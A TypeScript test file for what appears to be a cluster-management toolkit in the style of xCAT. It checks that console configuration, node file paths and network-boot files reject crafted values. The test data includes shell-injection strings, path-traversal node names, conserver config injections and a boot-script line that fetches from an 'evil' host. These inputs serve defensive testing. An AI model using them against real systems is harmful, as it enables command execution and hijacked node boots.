/** Values of tables, and words of users whom the policy allows one command, that try to become something else. */
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { type TestSite, withSite } from "../definitions/test_site.ts";
import { plugins } from "../../plugins/mod.ts";

const put = ({ environment }: TestSite, table: string, key: Record<string, string>, values = {}) =>
  environment.db.write((transaction) => {
    transaction.put(table, key, values);
    return Promise.resolve();
  });

Deno.test("what conserver would run by a shell comes from plain names only", () =>
  withSite(async (site) => {
    const bad = { a: { cons: "ipmi a; id #" }, b: { cons: "../../../tmp/x" }, "c;id": { cons: "ipmi" } };
    const all = { ...bad, d: { cons: "ipmi", conserver: "h;\n}\nconsole x {" }, e: { cons: "ipmi" } };
    for (const [node, values] of Object.entries(all)) {
      await put(site, "nodelist", { node }, { groups: "all" });
      await put(site, "nodehm", { node }, values);
    }
    const { status, stderr } = await site.run("makeconservercf");
    assert.equal(status, 1);
    assert.equal(stderr.match(/Error: /g)?.length, 4, stderr);
    const text = readFileSync(`${site.root}/etc/conserver.cf`, "utf8");
    assert.deepEqual(text.match(/ exec .*/g), [" exec /opt/xcat/share/xcat/cons/ipmi e;"]);
    for (const host of ["h; }", "h\n}\nconsole x { type exec; exec /tmp/x; }"]) {
      const { status, stderr } = await site.run(`makeconservercf -t '${host}'`);
      assert.equal(status, 1);
      assert.match(stderr, /is no host/);
    }
    assert.equal(readFileSync(`${site.root}/etc/conserver.cf`, "utf8"), text);
  }, plugins));

Deno.test("a node's name leads to no file outside of the folders of nodes", () =>
  withSite(async (site) => {
    const names = ["x/../../etc/cron.d/y", "../../etc/motd", "..", ".x", "a b", "a\nb", "$(id)", "a;b"];
    await site.environment.ports.fs.write("/etc/motd", "# not to be read\n");
    await put(site, "site", { key: "master" }, { value: "127.0.0.1" });
    for (const node of names) {
      await put(site, "nodelist", { node }, { groups: "all" });
      await put(site, "noderes", { node }, { netboot: "pxe" });
      await put(site, "hosts", { node }, { ip: "10.0.0.9" });
    }
    for (
      const line of ["mkmypostscript all", "nodeset all boot", "nodeset all offline", "nodeset all stat"]
    ) {
      const { stdout, stderr } = await site.run(line);
      assert.equal(stderr.match(/can have no files/g)?.length, names.length, `${line}: ${stderr}`);
      assert.doesNotMatch(stdout, /not to be read/);
    }
    assert.ok(!existsSync(`${site.root}/etc/cron.d`));
    assert.equal(readFileSync(`${site.root}/etc/motd`, "utf8"), "# not to be read\n");
  }, plugins));

Deno.test("no value makes another line in a boot file, and no port is more than a number", () =>
  withSite(async (site) => {
    await put(site, "site", { key: "master" }, { value: "127.0.0.1" });
    await put(site, "nodelist", { node: "n1" }, { groups: "all" });
    await put(site, "hosts", { node: "n1" }, { ip: "127.0.0.1" });
    await put(site, "mac", { node: "n1" }, { mac: "2a:2a:2a:2a:2a:01" });
    await put(site, "nodetype", { node: "n1" }, { os: "alt", arch: "x86_64", profile: "compute" });
    await put(site, "noderes", { node: "n1" }, { netboot: "xnba" });
    for (const name of ["kernel", "initrd.gz", "rootimg.squashfs"]) {
      await site.environment.ports.fs.write(`/install/netboot/alt/x86_64/compute/${name}`, name);
    }
    await site.lines("nodeset n1 netboot");
    const file = `${site.root}/tftpboot/xcat/xnba/nodes/n1`;
    const before = readFileSync(file, "utf8");
    const line = "x\nimgfetch http://10.9.9.9/evil";
    const bad: [table: string, key: Record<string, string>, column: string, value: string][] = [
      ["bootparams", { node: "n1" }, "addkcmdline", line],
      ["nodehm", { node: "n1" }, "serialport", line],
      ["nodehm", { node: "n1" }, "serialspeed", line],
      ["nodetype", { node: "n1" }, "profile", line],
      ["site", { key: "httpport" }, "value", '80/"; }'],
      ["site", { key: "xcatdport" }, "value", line],
    ];
    await put(site, "nodehm", { node: "n1" }, { serialport: "0" });
    for (const [table, key, column, value] of bad) {
      const [row] = (await site.environment.db.rows(table)).filter((row) =>
        Object.entries(key).every(([name, value]) => row[name] === value)
      );
      await put(site, table, key, { [column]: value });
      const { status, stderr } = await site.run("nodeset n1 netboot");
      assert.equal(status, 1, `${table}.${column}: ${stderr}`);
      assert.equal(readFileSync(file, "utf8"), before, `${table}.${column}`);
      await put(site, table, key, { [column]: row?.[column] ?? "" });
    }
    await site.lines("nodeset n1 netboot");
  }, plugins));
